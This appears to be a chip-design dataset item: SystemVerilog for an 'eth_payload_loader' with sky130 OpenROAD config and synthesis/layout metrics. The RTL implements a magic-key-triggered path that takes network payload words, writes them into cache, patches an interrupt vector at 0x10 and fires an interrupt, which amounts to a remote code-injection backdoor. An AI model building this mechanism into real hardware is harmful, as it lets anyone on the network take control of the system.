===== config.mk =====
export PLATFORM = sky130hd
export DESIGN_NAME = eth_payload_loader
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/eth_payload_loader_pkg.sv /design/src/rtl/eth_key_matcher.sv /design/src/rtl/eth_payload_loader.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_MARGIN = 1.5
export CORE_UTILIZATION = 46
export DETAILED_ROUTE_END_ITERATION = 16
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY = 0.65
export SKIP_LAST_GASP = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 10

===== constraint.sdc =====
create_clock -name i_clk -period 23.9 [get_ports i_clk]
set_input_delay 2.39 -clock i_clk [delete_from_list [all_inputs] [get_ports i_clk]]
set_output_delay 2.39 -clock i_clk [all_outputs]
set_load 0.01 [all_outputs]

===== src/rtl/eth_payload_loader_pkg.sv =====
// eth_payload_loader_pkg
//   Shared types and constants for the Ethernet payload loader.
//   - match_state_e : key matcher states (HUNT/KEY/CAPTURE/DONE)
//   - wr_state_e    : cache writer states (IDLE/COPY/PATCH/IRQ)
//   - DEF_*         : default start key, terminator and fill words
//   - ceil_div      : elaboration/runtime helper for line counts
package eth_payload_loader_pkg;

   localparam int WORD_BITS = 32;

   // "_SECRET_" split across two words, "STOP" terminator, "XYXY" fill
   localparam logic [WORD_BITS-1:0] DEF_KEY0 = 32'h5f534543;
   localparam logic [WORD_BITS-1:0] DEF_KEY1 = 32'h5245545f;
   localparam logic [WORD_BITS-1:0] DEF_END  = 32'h53544F50;
   localparam logic [WORD_BITS-1:0] DEF_FILL = 32'h58595859;

   typedef enum logic [1:0] {
      M_HUNT    = 2'd0,
      M_KEY     = 2'd1,
      M_CAPTURE = 2'd2,
      M_DONE    = 2'd3
   } match_state_e;

   typedef enum logic [1:0] {
      W_IDLE  = 2'd0,
      W_COPY  = 2'd1,
      W_PATCH = 2'd2,
      W_IRQ   = 2'd3
   } wr_state_e;

   function automatic int ceil_div(input int a, input int b);
      return (a + b - 1) / b;
   endfunction

endpackage


===== src/rtl/eth_key_matcher.sv =====
// eth_key_matcher
//   Scans the RX word stream for a KEY_WORDS-long start key, then strobes each
//   following payload word into the buffer until END_WORD arrives.
//   Ports:
//     i_clk, i_rst        clock, async active-high reset
//     i_rx_data/valid     RX word stream
//     i_rx_reset          packet abort; masks i_rx_valid, aborts KEY/CAPTURE
//     i_hold              writer busy; accepted words are ignored
//     o_store, o_store_idx  write i_rx_data into buffer word o_store_idx
//     o_fill              refill the whole buffer with the fill word
//     o_done              one-cycle frame complete, o_count is final
//     o_count             payload words stored in the current frame
//     o_active            matcher in CAPTURE or DONE
//     o_overflow          sticky: payload words were dropped
module eth_key_matcher
   import eth_payload_loader_pkg::*;
#(
   parameter int                            KEY_WORDS = 2,
   parameter logic [KEY_WORDS*WORD_BITS-1:0] KEY      = {DEF_KEY0, DEF_KEY1},
   parameter logic [WORD_BITS-1:0]          END_WORD  = DEF_END,
   parameter int                            CAP       = 24,
   parameter int                            CW        = $clog2(CAP + 1)
)(
   input  logic                 i_clk,
   input  logic                 i_rst,
   input  logic [WORD_BITS-1:0] i_rx_data,
   input  logic                 i_rx_valid,
   input  logic                 i_rx_reset,
   input  logic                 i_hold,
   output logic                 o_store,
   output logic [CW-1:0]        o_store_idx,
   output logic                 o_fill,
   output logic                 o_done,
   output logic [CW-1:0]        o_count,
   output logic                 o_active,
   output logic                 o_overflow
);

   localparam int IW = (KEY_WORDS > 1) ? $clog2(KEY_WORDS) : 1;

   // Key word 0 sits in the MSBs of KEY; unpack so key_w[i] is the i-th word
   logic [WORD_BITS-1:0] key_w [KEY_WORDS];
   for (genvar g = 0; g < KEY_WORDS; g++) begin : g_key
      assign key_w[g] = KEY[(KEY_WORDS-1-g)*WORD_BITS +: WORD_BITS];
   end

   match_state_e  state_q, state_d;
   logic [IW-1:0] idx_q, idx_d;
   logic [CW-1:0] count_q, count_d;
   logic          ovf_q, ovf_d;
   logic          acc;

   assign acc = i_rx_valid && !i_rx_reset && !i_hold;

   always_ff @(posedge i_clk or posedge i_rst) begin
      if (i_rst) begin
         state_q <= M_HUNT;
         idx_q   <= '0;
         count_q <= '0;
         ovf_q   <= 1'b0;
      end else begin
         state_q <= state_d;
         idx_q   <= idx_d;
         count_q <= count_d;
         ovf_q   <= ovf_d;
      end
   end

   always_comb begin
      state_d = state_q;
      idx_d   = idx_q;
      count_d = count_q;
      ovf_d   = ovf_q;
      o_store = 1'b0;
      o_fill  = 1'b0;
      o_done  = 1'b0;
      unique case (state_q)
         M_HUNT: begin
            if (acc && i_rx_data == key_w[0]) begin
               if (KEY_WORDS == 1) begin
                  state_d = M_CAPTURE;
                  count_d = '0;
                  ovf_d   = 1'b0;
                  o_fill  = 1'b1;
               end else begin
                  state_d = M_KEY;
                  idx_d   = IW'(1);
               end
            end
         end
         M_KEY: begin
            if (i_rx_reset) begin
               state_d = M_HUNT;
               count_d = '0;
               o_fill  = 1'b1;
            end else if (acc) begin
               if (i_rx_data == key_w[idx_q]) begin
                  if (idx_q == IW'(KEY_WORDS - 1)) begin
                     // Fresh frame: stale words from an earlier, longer
                     // frame must not leak into a partially filled line.
                     state_d = M_CAPTURE;
                     count_d = '0;
                     ovf_d   = 1'b0;
                     o_fill  = 1'b1;
                  end else begin
                     idx_d = idx_q + 1'b1;
                  end
               end else if (i_rx_data == key_w[0]) begin
                  // Mismatch, but this word may itself start a new key
                  idx_d = IW'(1);
               end else begin
                  state_d = M_HUNT;
               end
            end
         end
         M_CAPTURE: begin
            if (i_rx_reset) begin
               state_d = M_HUNT;
               count_d = '0;
               o_fill  = 1'b1;
            end else if (acc) begin
               if (i_rx_data == END_WORD) begin
                  state_d = M_DONE;
               end else if (count_q == CW'(CAP)) begin
                  ovf_d = 1'b1;
               end else begin
                  o_store = 1'b1;
                  count_d = count_q + 1'b1;
               end
            end
         end
         M_DONE: begin
            o_done  = 1'b1;
            state_d = M_HUNT;
         end
         default: state_d = M_HUNT;
      endcase
   end

   assign o_store_idx = count_q;
   assign o_count     = count_q;
   assign o_active    = (state_q == M_CAPTURE) || (state_q == M_DONE);
   assign o_overflow  = ovf_q;

endmodule


===== src/rtl/eth_payload_loader.sv =====
// eth_payload_loader
//   Captures an Ethernet RX payload framed by a start key and END_WORD, then
//   copies it line by line into the cache from BASE_ADDR, optionally patches
//   a vector line and raises a one-cycle interrupt.
//   Ports:
//     i_clk, i_rst        clock, async active-high reset
//     i_rx_data/valid     RX word stream
//     i_rx_reset          RX packet abort
//     i_cache_stall       cache not accepting a write this cycle
//     i_fetch_stall       holds off the interrupt pulse
//     o_wr_req/addr/data  cache line write port
//     o_irq               one-cycle interrupt after the vector patch
//     o_busy              capture or write in progress
//     o_overflow          sticky: payload exceeded the buffer
//     o_words             words captured in the last completed frame
module eth_payload_loader
   import eth_payload_loader_pkg::*;
#(
   parameter int                            KEY_WORDS   = 2,
   parameter logic [KEY_WORDS*WORD_BITS-1:0] KEY        = {DEF_KEY0, DEF_KEY1},
   parameter logic [WORD_BITS-1:0]          END_WORD    = DEF_END,
   parameter int                            LINE_BITS   = 128,
   parameter int                            STORE_LINES = 6,
   parameter logic [31:0]                   BASE_ADDR   = 32'h0020_0000,
   parameter bit                            PATCH_VEC   = 1'b1,
   parameter logic [31:0]                   VEC_ADDR    = 32'h0000_0010,
   parameter logic [LINE_BITS-1:0]          VEC_DATA    = '0,
   parameter logic [WORD_BITS-1:0]          FILL_WORD   = DEF_FILL,
   localparam int                           CW          =
      $clog2(STORE_LINES * LINE_BITS / WORD_BITS + 1)
)(
   input  logic                 i_clk,
   input  logic                 i_rst,
   input  logic [WORD_BITS-1:0] i_rx_data,
   input  logic                 i_rx_valid,
   input  logic                 i_rx_reset,
   input  logic                 i_cache_stall,
   input  logic                 i_fetch_stall,
   output logic                 o_wr_req,
   output logic [31:0]          o_wr_addr,
   output logic [LINE_BITS-1:0] o_wr_data,
   output logic                 o_irq,
   output logic                 o_busy,
   output logic                 o_overflow,
   output logic [CW-1:0]        o_words
);

   localparam int WPL    = LINE_BITS / WORD_BITS;
   localparam int CAP    = STORE_LINES * WPL;
   localparam int LW     = (STORE_LINES > 1) ? $clog2(STORE_LINES) : 1;
   localparam int NW     = $clog2(STORE_LINES + 1);
   localparam int STRIDE = LINE_BITS / 8;

   // ---------------- matcher ----------------
   logic          m_store, m_fill, m_done, m_active, m_ovf;
   logic [CW-1:0] m_idx, m_count;
   logic          hold;

   eth_key_matcher #(
      .KEY_WORDS (KEY_WORDS),
      .KEY       (KEY),
      .END_WORD  (END_WORD),
      .CAP       (CAP),
      .CW        (CW)
   ) u_match (
      .i_clk       (i_clk),
      .i_rst       (i_rst),
      .i_rx_data   (i_rx_data),
      .i_rx_valid  (i_rx_valid),
      .i_rx_reset  (i_rx_reset),
      .i_hold      (hold),
      .o_store     (m_store),
      .o_store_idx (m_idx),
      .o_fill      (m_fill),
      .o_done      (m_done),
      .o_count     (m_count),
      .o_active    (m_active),
      .o_overflow  (m_ovf)
   );

   // ---------------- payload buffer ----------------
   // Word w lives at buf_q[w]; a line is WPL consecutive words, lowest word
   // in the line's LSBs.
   logic [CAP-1:0][WORD_BITS-1:0] buf_q;
   logic [LINE_BITS-1:0]          line_w [STORE_LINES];

   for (genvar g = 0; g < STORE_LINES; g++) begin : g_line
      assign line_w[g] = buf_q[g*WPL +: WPL];
   end

   always_ff @(posedge i_clk or posedge i_rst) begin
      if (i_rst) begin
         buf_q <= {CAP{FILL_WORD}};
      end else if (m_fill) begin
         buf_q <= {CAP{FILL_WORD}};
      end else if (m_store) begin
         for (int w = 0; w < CAP; w++) begin
            if (m_idx == CW'(w)) buf_q[w] <= i_rx_data;
         end
      end
   end

   // ---------------- writer ----------------
   wr_state_e     wst_q, wst_d;
   logic [LW-1:0] line_q, line_d;
   logic [NW-1:0] nlines_q;
   logic [CW-1:0] words_q;
   logic          start_q;   // frame handed over, writer starts next cycle
   logic          last_line;

   always_ff @(posedge i_clk or posedge i_rst) begin
      if (i_rst) begin
         wst_q    <= W_IDLE;
         line_q   <= '0;
         nlines_q <= '0;
         words_q  <= '0;
         start_q  <= 1'b0;
      end else begin
         wst_q   <= wst_d;
         line_q  <= line_d;
         start_q <= m_done && (m_count != '0);
         if (m_done) begin
            words_q  <= m_count;
            nlines_q <= NW'(ceil_div(int'(m_count), WPL));
         end
      end
   end

   assign last_line = (NW'(line_q) + NW'(1)) == nlines_q;

   always_comb begin
      wst_d     = wst_q;
      line_d    = line_q;
      o_wr_req  = 1'b0;
      o_wr_addr = '0;
      o_wr_data = '0;
      o_irq     = 1'b0;
      unique case (wst_q)
         W_IDLE: begin
            if (start_q) begin
               wst_d  = W_COPY;
               line_d = '0;
            end
         end
         W_COPY: begin
            o_wr_req  = 1'b1;
            o_wr_addr = BASE_ADDR + (32'(line_q) * 32'(STRIDE));
            o_wr_data = line_w[line_q];
            if (!i_cache_stall) begin
               if (last_line) wst_d = PATCH_VEC ? W_PATCH : W_IDLE;
               else           line_d = line_q + 1'b1;
            end
         end
         W_PATCH: begin
            o_wr_req  = 1'b1;
            o_wr_addr = VEC_ADDR;
            o_wr_data = VEC_DATA;
            if (!i_cache_stall) wst_d = W_IRQ;
         end
         W_IRQ: begin
            if (!i_fetch_stall) begin
               o_irq = 1'b1;
               wst_d = W_IDLE;
            end
         end
         default: wst_d = W_IDLE;
      endcase
   end

   // The matcher stays in HUNT from the hand-over cycle until the writer idles
   assign hold       = start_q || (wst_q != W_IDLE);
   assign o_busy     = m_active || hold;
   assign o_overflow = m_ovf;
   assign o_words    = words_q;

endmodule

Word-level counts from Yosys, hierarchy flattened:

Cells that the tools add are included.

* add/sub/neg operators: 7
* equal/unequal tests: 59
* bitwise logic cells: 3
* muxes and demuxes: 94
* reduce and logical (&&, ||, !) cells: 74
* magnitude comparators: 2

Operators by type and width (number)
* $mux 768: 2
* $mux 32: 26
* $bmux 128 s3: 1
* $mux 128: 3
* $eq 32x31->1 const B: 2
* $reduce_bool 2->1: 29
* $reduce_and 2->1: 24
* $pmux 23 s2: 1
* $eq 5x5->1 const B: 9
* $eq 5x4->1 const B: 8
* $mux 5: 8
* $eq 32x32->1: 1
* $mux 1: 28
* $mux 2: 14
* $mux 28: 1
* $add 22x7->23 const A: 1
* $eq 5x3->1 const B: 4
* $ne 2x2->1 const B: 9
* $pmux 2 s4: 2
* $ne 3x2->1 const B: 5
* $ne 2x1->1 const B: 6
* $eq 5x2->1 const B: 2
* $pmux 5 s2: 1
* $reduce_and 5->1: 2
* other kinds (32): 50

* register bits: 791
* logic and storage cells: 272
* output and inout port bits: 169

Longest topological paths before layout:

* depth after elaboration: 11
* gate-level depth with buffers: 12
* depth with buffers taken out: 8

Cells and area by module:

From an unflattened synthesis, not the netlist that was laid out.

* cell total of the unflattened synthesis: 4392
* area total of the unflattened synthesis: 39912.0 µm²

Modules (own cells, without submodules)
* eth_payload_loader: area an instance 38894.8 µm², cells an instance 4272, instances 1
* eth_key_matcher: area an instance 1017.2 µm², cells an instance 120, instances 1

Worst setup path before layout:

Ideal clock, no wire load.

* path type: input-to-output
* start point: input port i_fetch_stall
* end point: output port o_irq
* stages: 1
* path slack: 18.942 ns
* arrival time: 2.568 ns
* buffers on the path: 0
* cell sequence: nor2b_1

* longest elaborated chain between the ends: 2

Ends and longest elaborated chain
* from (decl): RTL line eth_payload_loader.sv:38 `input logic i_fetch_stall,`
* $mux 1: RTL line eth_payload_loader.sv:161 `if (!i_fetch_stall) begin`
* $mux 1: RTL line eth_payload_loader.sv:138 `unique case (wst_q)`
* to (decl): RTL line eth_payload_loader.sv:42 `output logic o_irq,`

Every way passes these cells.

Final worst setup path:

* start point: register line_q[1]
* end point: output port o_wr_data[104]

* longest elaborated chain between the ends: 5

Ends and longest elaborated chain
* from (decl): RTL line eth_payload_loader.sv:105 `logic [LW-1:0] line_q, line_d;`
* from (signal assigned): RTL line eth_payload_loader.sv:120 `line_q <= line_d;`
* $not 3->4 (implied by the code): RTL line eth_payload_loader.sv:148 `o_wr_data = line_w[line_q];`
* $bmux 128 s3: RTL line eth_payload_loader.sv:148
* $mux 128 (implied by the code) (2 in a row): RTL line eth_payload_loader.sv:148
* $mux 128: RTL line eth_payload_loader.sv:138
* to (decl): RTL line eth_payload_loader.sv:41 `output logic [LINE_BITS-1:0] o_wr_data,`

Every way passes these cells. The select of a mux whose other input is x is not followed.

==> impl_metrics.tcl <==
set metrics [dict create \
    h-tree-depth 3 \
    clockRootBuffer "clkbuf_16" \
    grt.overflow.total 0 \
    yosysTopAreaCell "dfrtp_1" \
    layout_commonest_cell "nand2_1" \
    start_kind "register" \
    switchingPower_uw 961 \
    layout-drive-gt1-share 0.209 \
    crit_path_max_fanout 63 \
    tns_ns 0 \
    insertion_delay_ns 0.65 \
    cellLeakagePower_nw 18.7 \
    synth_area_leaders "dfrtp_1 29%, dfstp_2 22%, nand2_1 14%, mux4_2 7.3%, a21oi_1 6.9%" \
    critical_path.top_delay_family "buffers and inverters" \
    place_area_um2 40600 \
    yosys_warnings 0 \
    seq_area_frac_synth 0.510 \
    crit_cells 6 \
    cts_setup_buffers 0 \
    grt_pass1_wl_mm 193 \
    io_pins 207 \
    io_buffers 178 \
    core-area_um2 85300 \
    rr_worst_depth 10 \
    viasPerCell 5.77 \
    drc 0 \
    rsz0062_at_grt "false" \
    synth_ff_type "dfrtp_1" \
    rows 107 \
    layout-area-overhead-vs-synth_pct 9.82 \
    status "finished, final reports clean" \
    whs_path_depth 2 \
    fp.dieW_um 297 \
    cts_hold_buf 0 \
    async_flop_share 1.00 \
    period_minus_slack_ns 6.81 \
    stdcell_area_um2 43600 \
    clock_sinks 791 \
    num_vias 31800 \
    drt_iter0_drc 3447 \
    postSynthAreaPerCell_um2 9.04 \
    ant_nets 0 \
    sequentialPowerShare 0.418 \
    max_stage_delay_ns 0.93 \
    finish.utilization 0.511 \
    internal-power_mw 2.33 \
    ys_ff_latch 791 \
    final_cell_mix "1483 x nand2_1, 548 x a21oi_1, 453 x dfrtp_1" \
    dp_hpwl_mm 67.3 \
    p_clk_frac 0.426 \
    worst_pin_slew_ns 1.22 \
    worstSetupStartpoint "line_q[1]" \
    p_per_area_nw_per_um2 75.5 \
    hold_slack_ns 0.480 \
    p_sw_frac 0.292 \
    min_period_over_period 0.285 \
    r2r-start "wst_q[0]" \
    slowest_stage "buf_4" \
    start_util 0.465 \
    crit_buf_inv 3 \
    finalClockSkew_ns 0.0206 \
    max_freq_mhz 147 \
    cts_buffers 85 \
    crit_type "register to primary output" \
    wire_per_inst_um 22.8 \
    vdd_drop_max_mv 0.153 \
    ctsResizeCount 0 \
    dpl.cell_count 5348 \
    crit_chain "buf_4 > buf_4 > mux4_2 > a21oi_1 > nor2_1 > buf_2" \
    syn_area_um2 39700 \
    dr.pass1.iters 5 \
    synth.top_cell.area_share 0.287 \
    antenna_found_initial 3 \
    crit_top_cell "buf_4" \
    netlist_instances 4389 \
    max_slew_margin 0.186 \
    ys_types 66 \
    cp-end-kind "primary output" \
    fillCellCount 7916 \
    arrival_ns 4.42 \
    nNetsFinal 4345 \
    die_h_um 297 \
    cts_tree "done" \
    setup_viol 0 \
    clock_path_buffers 3 \
    grt_max_degree 239 \
    wl_mm 125 \
    synth_edf_count 0 \
    stdcell_count 5504 \
    crit_required_ns 21.51 \
    cts.clk_slew.worst_paths_ns 0.06 \
    grt_pass1_vias 31500 \
    track_usage 0.288 \
    timing_hold_violations_final 0 \
    combPwrFrac 0.156 \
    worstHoldStart "buf_q[326]" \
    drv_slew 0 \
    die-area_um2 88000 \
    maxCapViolations 0 \
    worstHoldPathType "register to register" \
]
-- cells in the mapped netlist (8+ instances only) --
| cell | count |
|---|---|
| nand2_1 | 1483 |
| a21oi_1 | 548 |
| dfrtp_1 | 455 |
| dfstp_2 | 336 |
| nor2_1 | 307 |
| nand3_1 | 302 |
| buf_2 | 206 |
| mux2i_1 | 162 |
| clkbuf_1 | 134 |
| mux4_2 | 128 |
| buf_1 | 61 |
| buf_4 | 49 |
| o211ai_1 | 24 |
| nor3_2 | 20 |
| ha_1 | 16 |
| inv_1 | 14 |
| nand3_2 | 13 |
| buf_6 | 11 |
| or3_1 | 10 |
| and3_1 | 8 |
| mux2_2 | 8 |
| o21ai_0 | 8 |
-- layout make-up --
type                       instances  area (µm²)  share of cell area
multi-input combinational       3149       17400               0.400
sequential                       791       20200               0.464
tap                             1144        1430              0.0329
inverter                          14        63.8             0.00147
timing repair buffer             250        1470              0.0337
clock inverter                    18         332             0.00761
clock buffer                     136        2630              0.0604
antenna                            2        5.00            0.000115
-- power by group through the flow --
stage          sequential, mW  combinational (mW)  clock [mW]
2_1_floorplan            1.37               0.381           0
3_3_place_gp             1.39               0.515           0
3_5_place_dp             1.39               0.516           0
4_1_cts                  1.37               0.517        1.41
5_1_grt                  1.37               0.543        1.46
6_report                 1.37               0.514        1.40
-- per-layer routing --
layer	vias up	wire length, µm	track usage
met1	16000	52100	0.400
met5	-	13	0
li1	14300	-	-
met3	195	11200	0.0594
met2	1325	58200	0.452
met4	2	3780	0.0944
-- worst paths after layout --
| kind | end | slack [ns] |
|---|---|---|
| setup reg to reg | buf_q[543] | 19.56 |
| max in group asynchronous | buf_q[55] | 19.16 |
| min in group asynchronous | buf_q[139] | 2.22 |
| setup / recovery | o_wr_data[104] | 17.09 |
| hold reg to reg | buf_q[326] | 0.48 |
| hold / removal | buf_q[326] | 0.48 |
-- tightest hold or removal path, delay by kind of cell, from the launching register on --
family	cells	cell delay, ns
flops	1	0.37
simple gates	2	0.11
-- registers in the layout, indices dropped and copies added (netlist names) --
| name | flops |
|---|---|
| buf_q | 768 |
| line_q | 3 |
| nlines_q | 3 |
| o_words | 5 |
| start_q | 1 |
| u_match.idx_q | 1 |
| u_match.o_count | 5 |
| u_match.o_overflow | 1 |
| u_match.state_q | 2 |
| wst_q | 2 |
-- per-stage QoR --
stage	setup WS (ns)	total power, mW
after global placement	17.24	1.91
after CTS	17.16	3.30
after global routing	16.99	3.38
final	17.09	3.29
after detailed placement	17.22	1.91
after floorplan	10.93	1.75
-- cell families after synthesis --
family,Yosys count,share of synthesized area
AO/OA/AOI/OAI,607,0.0803
XOR/XNOR,7,0.00155
adder cells (fa/ha/maj),16,0.00505
buffers and inverters,476,0.0583
flip-flops,791,0.510
multiplexers,298,0.116
other,1,0.0000946
AND/OR/NAND/NOR,2193,0.229
Note: power is estimated with default switching activity, not from simulation.
